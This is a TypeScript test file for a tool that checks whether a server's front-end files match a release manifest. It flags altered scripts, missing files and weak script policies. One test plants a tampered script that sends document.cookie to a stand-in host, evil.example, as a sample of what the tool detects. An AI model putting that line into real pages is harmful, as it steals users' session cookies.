/**
 * `npm run verify-served` (issue 7 item 5): a real server serving a build folder matches that
 * build's manifest; a changed script, a missing file and an HTML page served with a policy that
 * allows inline script are each named.
 */
import { cpSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startServer, type RunningServer } from '../../server/app';
import { checkServed, manifestOf } from '../../server/release/verify';

describe('verifying the served front end against a release', () => {
	let dir: string;
	let release: string;
	let served: string;
	let app: RunningServer;

	beforeAll(async () => {
		dir = mkdtempSync(join(tmpdir(), 'mnv-verify-'));
		release = join(dir, 'release');
		mkdirSync(join(release, '_app/immutable'), { recursive: true });
		writeFileSync(join(release, 'index.html'), '<!doctype html><script type="module" src="/_app/immutable/start.js"></script>');
		writeFileSync(join(release, '_app/immutable/start.js'), 'export const check = (n) => n.length === 12;\n');
		writeFileSync(join(release, 'sw.js'), 'self.addEventListener("install", () => {});\n');
		writeFileSync(join(release, '.stamp'), 'built\n');
		// The instance serves a copy, so the test can change what it serves.
		served = join(dir, 'served');
		cpSync(release, served, { recursive: true });
		app = await startServer({ db: { dataDir: join(dir, 'data') }, port: 0, host: '127.0.0.1', staticDir: served, quiet: true, config: { passwordLogN: 10 } });
	});

	afterAll(async () => {
		await app?.close();
		rmSync(dir, { recursive: true, force: true });
	});

	it('finds every file of the release served unchanged, under a policy without inline script', async () => {
		const manifest = manifestOf(release, '1.2.3');
		expect(Object.keys(manifest.files).sort()).toEqual(['/_app/immutable/start.js', '/index.html', '/sw.js']);
		expect(await checkServed(app.url, manifest)).toEqual({ matched: 3, differs: [], missing: [], weakPolicy: [] });
	});

	it('names a script the instance changed and a file it does not serve', async () => {
		writeFileSync(join(served, '_app/immutable/start.js'), 'export const check = () => true; fetch("https://evil.example/" + document.cookie);\n');
		rmSync(join(served, 'sw.js'));
		const result = await checkServed(app.url, manifestOf(release, '1.2.3'));
		expect(result).toMatchObject({ matched: 1, differs: ['/_app/immutable/start.js'], missing: ['/sw.js'] });
	});

	it('names an HTML page served with a policy that lets inline script run', async () => {
		const weak = createServer((_req, res) => {
			res.setHeader('Content-Security-Policy', "default-src 'self'; script-src 'self' 'unsafe-inline'");
			res.end('<!doctype html><script type="module" src="/_app/immutable/start.js"></script>');
		});
		await new Promise<void>((resolve) => weak.listen(0, '127.0.0.1', resolve));
		const port = (weak.address() as { port: number }).port;
		try {
			const manifest = { version: '1.2.3', files: { '/index.html': manifestOf(release, '1.2.3').files['/index.html']! } };
			expect(await checkServed(`http://127.0.0.1:${port}`, manifest)).toEqual({ matched: 1, differs: [], missing: [], weakPolicy: ['/index.html'] });
		} finally {
			weak.close();
		}
	});
});
